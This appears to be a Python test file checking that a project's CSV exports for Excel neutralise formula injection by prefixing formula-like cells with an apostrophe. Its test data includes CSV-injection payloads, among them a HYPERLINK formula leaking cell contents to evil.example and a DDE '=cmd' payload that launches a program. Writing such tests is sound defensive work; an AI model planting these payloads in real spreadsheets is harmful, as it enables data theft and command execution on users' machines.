"""CSV files for Excel (issue «Trust, second round»): no text cell runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from pedpatterns import spreadsheet
from pedpatterns.labelstudio.agreement import agreement_csv, compute_agreement

# What an attacker (or Whisper mishearing) puts at the start of a cell; OWASP's list and a few more shapes.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"нажми")', "-2+3", "@SUM(1)", "+7 (999) 123-45-67",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "=", "+", "@", "-1+", "--5", "-2-", "=-2",
            "-1e5+1", "+A1"]


def is_safe(value: object) -> bool:
    """A cell Excel shows as text or reads as a plain number; never one it runs."""
    text = str(value)
    return not text.startswith(spreadsheet.FORMULA_STARTS) or spreadsheet._NUMBER.fullmatch(text) is not None


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_leading_apostrophe_and_stays_readable(text: str) -> None:
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, np.float64(-0.25), np.int64(-7), True, float("nan")])
def test_numbers_are_left_as_numbers(value: object) -> None:
    assert spreadsheet.cell(value) is value


@pytest.mark.parametrize("text", ["-2", "+0,5", "-1e-3", "-.5", "12", "Урок 1", "a=b", " =1", "1-2", "'=x", ""])
def test_plain_text_and_numbers_written_as_text_are_unchanged(text: str) -> None:
    assert spreadsheet.cell(text) == text


def test_a_whole_file_reads_back_with_every_cell_safe_and_none_empty() -> None:
    text = spreadsheet.csv_text(["=header", "b"], [[FORMULAS[0], None], [-2, "-2+3"], ["a,\"b\"\n=c", 1.5]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=header", "b"], ["'" + FORMULAS[0], ""], ["-2", "'-2+3"], ["a,\"b\"\n=c", "1.5"]]
    assert all(is_safe(c) for r in rows for c in r)


def test_agreement_csv_neutralises_pattern_and_expert_names_from_label_studio() -> None:
    """Pattern names come from the labelling interface and expert names from accounts: both are anyone's text."""
    votes = {("p", i): {"=1+1@evil.example": ["=cmd|' /C calc'!A0"] if i % 2 else [],
                        "-2+3": ["=cmd|' /C calc'!A0", "@SUM(1)"] if i % 3 else ["@SUM(1)"]}
             for i in range(12)}
    report = compute_agreement(votes, ["=cmd|' /C calc'!A0", "@SUM(1)"])
    rows = list(csv.reader(io.StringIO(agreement_csv(report))))
    cells = [c for r in rows for c in r]
    assert all(is_safe(c) for c in cells), cells
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
